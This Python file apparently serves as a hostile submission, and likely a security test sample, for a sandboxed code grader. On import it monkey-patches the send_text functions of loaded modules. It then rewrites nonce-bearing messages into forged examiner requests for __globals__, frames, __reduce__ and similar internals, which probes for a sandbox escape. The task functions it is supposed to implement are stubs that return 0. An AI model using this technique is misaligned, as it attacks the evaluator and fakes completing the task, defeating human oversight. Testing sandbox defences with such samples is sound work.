"""Asks the examiner, in place of an answer, for everything that it could have.

kinds: objects, function
"""

import itertools
import json
import sys

ASKED = itertools.cycle(
    [
        ("call", 0, ["x"]),
        ("get", 0, ["__globals__"]),
        ("get", 0, ["__class__"]),
        ("get", 0, ["__self__"]),
        ("get", 0, ["gi_frame"]),
        ("set", 0, ["total", 26]),
        ("special", 0, ["__reduce__"]),
        ("special", 0, ["__eq__", 0]),
        ("input", 0, ["?"]),
        ("call", -1, []),
        ("call", 10**9, []),
        ("nothing", 0, []),
    ]
)
asked = []

def forge(name):
    module = sys.modules[name]
    original = module.send_text

    def send(channel, text):
        try:
            message = json.loads(text)
            if any(pair[0] == "nonce" for pair in message.get("d", ())) and len(asked) < 500:
                asked.append(1)
                what, target, arguments = next(ASKED)
                message = {
                    "d": [
                        ["ask", what],
                        ["target", target],
                        ["args", {"t": arguments}],
                        ["kwargs", {"d": []}],
                        ["out", []],
                    ]
                }
            text = json.dumps(message).encode()
        except (ValueError, AttributeError, TypeError):
            pass
        original(channel, text)

    module.send_text = send

for name in list(sys.modules):
    if hasattr(sys.modules[name], "send_text"):
        forge(name)

class Bag:
    def __init__(self, values):
        pass

    def total(self):
        return 0

    ordered = counts = mean = total
    largest = property(total)

def describe(values):
    return 0

def digest(values):
    return 0
